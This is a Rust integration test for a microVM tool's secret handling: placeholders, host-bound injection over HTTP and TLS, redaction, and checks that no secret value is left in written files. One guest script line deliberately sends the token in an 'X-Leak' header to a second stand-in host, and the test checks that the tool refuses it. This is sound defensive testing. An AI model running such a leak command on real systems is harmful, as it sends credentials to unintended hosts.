//! Secrets end to end, in a real guest: a bound secret is a placeholder in the guest and its
//! value arrives only in requests to its host (a loopback HTTP server the test runs, reached
//! through a name the operator pins there); the placeholder sent to another host is refused
//! and recorded; an unbound secret printed by the command comes back redacted; and afterwards
//! no file mvm wrote holds either value in any encoding.

mod support;

use std::fs;
use std::io::Write;
use std::path::Path;

use base64::engine::general_purpose::{STANDARD, URL_SAFE_NO_PAD};
use base64::Engine;
use mvm_builder::testing::TestLayout;
use serde_json::Value;
use sha2::{Digest, Sha256};

use support::upstream::Upstream;
use support::{describe, guest, openssl, text, Served};

const BOUND_VALUE: &str = "tok-BOUND-5e1f0c9a77";
const UNBOUND_VALUE: &str = "pw-UNBOUND-b3c8d21e04";

/// Every encoding of `value` the redaction knows.
fn encodings(value: &str) -> Vec<String> {
    let bytes = value.as_bytes();
    vec![
        value.to_string(),
        STANDARD.encode(bytes),
        URL_SAFE_NO_PAD.encode(bytes),
        hex::encode(bytes),
        hex::encode_upper(bytes),
    ]
}

/// Files under `dir` holding any of `needles`, with the needle found.
fn files_holding(dir: &Path, needles: &[String], found: &mut Vec<String>) {
    let Ok(entries) = fs::read_dir(dir) else {
        return;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        let kind = entry.file_type().unwrap();
        if kind.is_dir() {
            files_holding(&path, needles, found);
        } else if kind.is_file() {
            let bytes = fs::read(&path).unwrap_or_default();
            for needle in needles {
                if memchr::memmem::find(&bytes, needle.as_bytes()).is_some() {
                    found.push(format!("{} holds {needle}", path.display()));
                }
            }
        }
    }
}

#[test]
fn a_bound_secret_reaches_only_its_host_and_no_value_is_left_anywhere() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    guest::mvm_json(&home, &["kernel", "fetch"], 0);
    let layout = TestLayout::new_in(dir.path());
    let digest = layout.busybox_with(&["sh", "wget", "echo", "cat", "env", "od", "tr", "stat"]);
    let image = format!("oci:{}@{digest}", layout.dir.path().display());
    let (bound, other) = (Upstream::start("bound"), Upstream::start("other"));
    fs::write(
        home.join("config.toml"),
        format!(
            "[egress]\nallow_private = [\"127.0.0.1:{}\", \"127.0.0.1:{}\"]\n\
             resolve = {{ \"api.svc.example\" = \"127.0.0.1\", \"other.svc.example\" = \"127.0.0.1\" }}\n",
            bound.port, other.port
        ),
    )
    .unwrap();

    // Put (standard input, a trailing newline dropped), bind, list.
    let put = |name: &str, value: &str| {
        let mut child = guest::command(&home, &["secret", "put", name])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        child
            .stdin
            .take()
            .unwrap()
            .write_all(format!("{value}\n").as_bytes())
            .unwrap();
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "{}", describe(&out));
    };
    put("api-token", BOUND_VALUE);
    put("db-password", UNBOUND_VALUE);
    let api = format!("api.svc.example:{}", bound.port);
    guest::mvm_json(
        &home,
        &[
            "secret",
            "bind",
            "api-token",
            "--host",
            &api,
            "--inject",
            "header:X-Api-Key",
        ],
        0,
    );
    // Bound again to the same host and port: the binding is replaced (the ways a value is
    // injected are each tested in runner/src/secrets/egress.rs).
    guest::mvm_json(&home, &["secret", "bind", "api-token", "--host", &api], 0);
    let listed = guest::mvm_json(&home, &["secret", "ls"], 0);
    let token = &listed["secrets"][0];
    assert_eq!(token["name"], "api-token");
    assert_eq!(token["bindings"].as_array().unwrap().len(), 1, "{listed}");
    assert_eq!(
        token["bindings"][0]["inject"]["kind"], "placeholder",
        "{listed}"
    );
    let listed = guest::mvm(&home, &["--json", "secret", "ls"]);
    assert!(listed.status.success(), "{}", describe(&listed));
    let listed_text = text(&listed.stdout);
    assert!(listed_text.contains("api-token") && listed_text.contains("db-password"));
    assert!(!listed_text.contains(BOUND_VALUE) && !listed_text.contains(UNBOUND_VALUE));

    let receipt = dir.path().join("receipt.json");
    let script = format!(
        "echo token=$API_TOKEN; echo password=$DB_PASSWORD; \
         echo encoded=$(echo -n $DB_PASSWORD | od -An -tx1 | tr -d ' \\n'); \
         echo file=$(cat /run/secrets/db-password) $(stat -c %a:%u /run/secrets/db-password); \
         echo bound-file=$(cat /run/secrets/api-token); \
         wget -q -O- --header \"Authorization: Bearer $API_TOKEN\" http://{api}/bound; \
         wget -q -O- --header \"X-Leak: $API_TOKEN\" http://other.svc.example:{other}/other; \
         echo other=$?",
        other = other.port
    );
    let out = guest::mvm(
        &home,
        &[
            "--json",
            "run",
            &image,
            "--allow-host",
            &api,
            "--allow-host",
            &format!("other.svc.example:{}", other.port),
            "--secret",
            "api-token",
            "--secret",
            "db-password",
            "--secret-file",
            "db-password",
            "--secret-file",
            "api-token",
            "--receipt",
            receipt.to_str().unwrap(),
            "--",
            "sh",
            "-c",
            &script,
        ],
    );
    assert!(out.status.success(), "{}", describe(&out));
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let stdout = report["stdout"].as_str().unwrap_or_default().to_string();

    // The guest held a placeholder, never the bound value; the unbound value, printed, is
    // redacted (as it is and hex-encoded).
    let placeholder = stdout
        .lines()
        .find_map(|l| l.strip_prefix("token="))
        .unwrap_or_else(|| panic!("{stdout}"))
        .to_string();
    assert!(
        placeholder.starts_with("MVM_SECRET_") && placeholder.len() == 43,
        "{stdout}"
    );
    assert!(
        stdout.contains("password=[REDACTED:db-password]"),
        "{stdout}"
    );
    assert!(
        stdout.contains("encoded=[REDACTED:db-password]"),
        "{stdout}"
    );
    // As files: the unbound value (redacted when printed), the workload user's alone; the
    // bound secret's placeholder, the same as its variable's.
    assert!(
        stdout.contains("file=[REDACTED:db-password] 400:1000"),
        "{stdout}"
    );
    assert!(
        stdout.contains(&format!("bound-file={placeholder}\n")),
        "{stdout}"
    );
    assert!(stdout.contains("hello from bound /"), "{stdout}");
    assert!(
        !stdout.contains("other=0"),
        "the placeholder went to another host: {stdout}"
    );

    // The receipt records the output as it was shown, scrubbed: no digest a guess of a
    // value could be checked against.
    let verified = guest::mvm_json(&home, &["receipt", "verify", receipt.to_str().unwrap()], 0);
    let shown = format!("sha256:{:x}", Sha256::digest(stdout.as_bytes()));
    assert_eq!(
        verified["receipt"]["stdout"]["sha256"],
        shown.as_str(),
        "{verified}"
    );
    assert_eq!(
        verified["receipt"]["stdout"]["bytes"],
        stdout.len(),
        "{verified}"
    );

    // The bound host got the value where the placeholder stood.
    let heads = bound.heads();
    assert_eq!(heads.len(), 1, "{heads:?}");
    assert!(
        heads[0].contains(&format!("Authorization: Bearer {BOUND_VALUE}\r\n")),
        "{}",
        heads[0]
    );
    assert!(!heads[0].contains("MVM_SECRET_"), "{}", heads[0]);
    // The other host got nothing: the connection ended before a byte left.
    assert!(other.heads().is_empty(), "{:?}", other.heads());

    // The refusal is on record, by reason, without the placeholder or a value.
    let audit = fs::read_to_string(home.join("audit/audit.jsonl")).unwrap();
    assert!(audit.contains("secret_placeholder"), "{audit}");

    // No value, in any encoding, anywhere mvm wrote: the home (bundles, VM directories, audit
    // log, console logs, the store itself), the receipt, the run's own output.
    let mut needles = encodings(BOUND_VALUE);
    needles.extend(encodings(UNBOUND_VALUE));
    let mut found = Vec::new();
    files_holding(&home, &needles, &mut found);
    files_holding(receipt.parent().unwrap(), &needles, &mut found);
    let all_output = format!("{}{}", text(&out.stdout), text(&out.stderr));
    for needle in &needles {
        if all_output.contains(needle.as_str()) {
            found.push(format!("the run's output holds {needle}"));
        }
    }
    assert!(found.is_empty(), "{found:#?}");
}

#[test]
fn an_unbound_secret_is_refused_under_restrictive_and_a_missing_one_fails_the_launch() {
    let dir = tempfile::tempdir().unwrap();
    let home = dir.path().join("home");
    guest::mvm_json(&home, &["kernel", "fetch"], 0);
    let layout = TestLayout::new_in(dir.path());
    let digest = layout.busybox_with(&["sh", "true"]);
    let image = format!("oci:{}@{digest}", layout.dir.path().display());
    let value_file = dir.path().join("value");
    fs::write(&value_file, UNBOUND_VALUE).unwrap();
    guest::mvm_json(
        &home,
        &[
            "secret",
            "put",
            "plain",
            "--value-file",
            value_file.to_str().unwrap(),
        ],
        0,
    );

    let out = guest::mvm(
        &home,
        &[
            "run",
            &image,
            "--profile",
            "restrictive",
            "--secret",
            "plain",
            "--",
            "true",
        ],
    );
    assert_eq!(out.status.code(), Some(120), "{}", describe(&out));
    assert!(text(&out.stderr).contains("RUN061"), "{}", describe(&out));
    // The refusal names the secret, never its value.
    assert!(
        !text(&out.stderr).contains(UNBOUND_VALUE),
        "{}",
        describe(&out)
    );
    let out = guest::mvm(&home, &["run", &image, "--secret", "absent", "--", "true"]);
    assert_eq!(out.status.code(), Some(125), "{}", describe(&out));
    assert!(text(&out.stderr).contains("RUN030"), "{}", describe(&out));
}

/// An HTTPS server on a loopback port (its certificate for `api.svc.example`, issued by the
/// test's own CA) that writes the head of every request to a file, then prints its port.
const HTTPS_SERVER: &str = r#"
import http.server, ssl, sys, threading
cert, key, heads = sys.argv[1:4]
class Keep(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        with open(heads, "a") as f:
            f.write(self.requestline + "\r\n" + str(self.headers) + "\n")
        body = b"served over tls\n"
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Keep)
context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
context.load_cert_chain(cert, key)
server.socket = context.wrap_socket(server.socket, server_side=True)
print(server.server_address[1], flush=True)
server.serve_forever()
"#;

#[test]
fn over_https_the_host_ends_the_guests_tls_and_puts_the_value_in() {
    let image = support::debian::bookworm();
    let dir = tempfile::tempdir().unwrap();
    let work = dir.path();
    let home = work.join("home");
    guest::mvm_json(&home, &["kernel", "fetch"], 0);

    // The upstream's CA and its certificate for the bound name.
    let ec = [
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:prime256v1",
        "-nodes",
    ];
    let mut ca = vec![
        "req",
        "-x509",
        "-days",
        "1",
        "-subj",
        "/CN=upstream test CA",
    ];
    ca.extend(ec);
    ca.extend(["-keyout", "ca.key", "-out", "ca.pem"]);
    openssl(&ca, work);
    let mut csr = vec!["req", "-subj", "/CN=api.svc.example"];
    csr.extend(ec);
    csr.extend(["-keyout", "leaf.key", "-out", "leaf.csr"]);
    openssl(&csr, work);
    fs::write(
        work.join("leaf.ext"),
        "subjectAltName=DNS:api.svc.example\nbasicConstraints=CA:FALSE\n",
    )
    .unwrap();
    openssl(
        &[
            "x509",
            "-req",
            "-in",
            "leaf.csr",
            "-CA",
            "ca.pem",
            "-CAkey",
            "ca.key",
            "-CAcreateserial",
            "-days",
            "1",
            "-extfile",
            "leaf.ext",
            "-out",
            "leaf.pem",
        ],
        work,
    );
    let heads = work.join("heads.txt");
    let (_server, port) = Served::start(
        std::process::Command::new("python3")
            .args(["-c", HTTPS_SERVER])
            .arg(work.join("leaf.pem"))
            .arg(work.join("leaf.key"))
            .arg(&heads),
    );
    let port: u16 = port.trim().parse().unwrap();

    fs::write(
        home.join("config.toml"),
        format!(
            "[egress]\nallow_private = [\"127.0.0.1:{port}\"]\n\
             resolve = {{ \"api.svc.example\" = \"127.0.0.1\" }}\n\
             tls_trust = [\"{}\"]\n",
            work.join("ca.pem").display()
        ),
    )
    .unwrap();
    let value_file = work.join("value");
    fs::write(&value_file, BOUND_VALUE).unwrap();
    let value_file = value_file.to_str().unwrap().to_string();
    guest::mvm_json(
        &home,
        &["secret", "put", "api-token", "--value-file", &value_file],
        0,
    );
    let api = format!("api.svc.example:{port}");
    guest::mvm_json(&home, &["secret", "bind", "api-token", "--host", &api], 0);

    let script = format!(
        "curl -sS --fail -H \"Authorization: Bearer $API_TOKEN\" https://{api}/over-tls; \
         echo curl=$?; echo token=$API_TOKEN greeting=$GREETING; cat /etc/mvm/ca.pem"
    );
    let name = "tls";
    let up = guest::mvm(
        &home,
        &[
            "up",
            &image.reference,
            "--name",
            name,
            "--allow-host",
            &api,
            "--secret",
            "api-token",
            "--env",
            "GREETING=hello",
        ],
    );
    let _vm = guest::RemoveOnDrop { home: &home, name };
    assert!(up.status.success(), "{}", describe(&up));
    let exec = || {
        let out = guest::mvm(&home, &["exec", name, "--", "bash", "-c", &script]);
        assert!(out.status.success(), "{}", describe(&out));
        text(&out.stdout)
    };
    let stdout = exec();
    // The guest's curl checked the certificate the host presented (the per-VM CA's) and got
    // the answer; it held a placeholder only.
    assert!(stdout.contains("served over tls\ncurl=0"), "{stdout}");
    assert!(stdout.contains("token=MVM_SECRET_"), "{stdout}");
    assert!(stdout.contains("greeting=hello"), "{stdout}");
    assert!(!stdout.contains(BOUND_VALUE), "{stdout}");
    // The CA the guest was given can sign for the bound name only, and no CA below it.
    let ca = |stdout: &str| {
        let begin = stdout
            .find("-----BEGIN CERTIFICATE-----")
            .expect("the CA in the guest");
        stdout[begin..].to_string()
    };
    fs::write(work.join("vm-ca.pem"), ca(&stdout)).unwrap();
    let shown = std::process::Command::new("openssl")
        .args(["x509", "-noout", "-text", "-in"])
        .arg(work.join("vm-ca.pem"))
        .output()
        .unwrap();
    let shown = text(&shown.stdout);
    assert!(shown.contains("CA:TRUE, pathlen:0"), "{shown}");
    let permitted = shown.split("Permitted:").nth(1).expect("name constraints");
    assert_eq!(
        permitted.split_whitespace().next(),
        Some("DNS:api.svc.example"),
        "{shown}"
    );

    // Saved cold and woken by a new runner: the same placeholder and variables for its
    // commands (its processes hold them), a new CA the guest trusts in place of the old.
    guest::mvm_json(&home, &["pause", name, "--cold"], 0);
    guest::mvm_json(&home, &["resume", name], 0);
    let woken = exec();
    assert!(woken.contains("served over tls\ncurl=0"), "{woken}");
    let token = |out: &str| {
        out.lines()
            .find_map(|l| l.strip_prefix("token="))
            .map(str::to_string)
    };
    assert_eq!(token(&woken), token(&stdout), "{woken}");
    assert_ne!(
        ca(&woken),
        ca(&stdout),
        "a woken VM's runner makes a CA of its own"
    );
    // The bundle the TLS stacks' variables name (this image has no system bundle to replace).
    let bundle = guest::mvm(
        &home,
        &["exec", name, "--", "cat", "/etc/mvm/ca-bundle.pem"],
    );
    assert!(bundle.status.success(), "{}", describe(&bundle));
    let bundle = text(&bundle.stdout);
    assert!(bundle.contains(ca(&woken).trim()), "the new CA is trusted");
    assert!(!bundle.contains(ca(&stdout).trim()), "the old CA is not");

    // The upstream got the value, over TLS it verified against the operator's CA.
    let seen = fs::read_to_string(&heads).unwrap();
    assert_eq!(seen.matches("GET /over-tls HTTP/1.1").count(), 2, "{seen}");
    assert!(
        seen.contains(&format!("Authorization: Bearer {BOUND_VALUE}")),
        "{seen}"
    );
    assert!(!seen.contains("MVM_SECRET_"), "{seen}");
    let mut found = Vec::new();
    files_holding(&home, &encodings(BOUND_VALUE), &mut found);
    assert!(found.is_empty(), "{found:#?}");
}
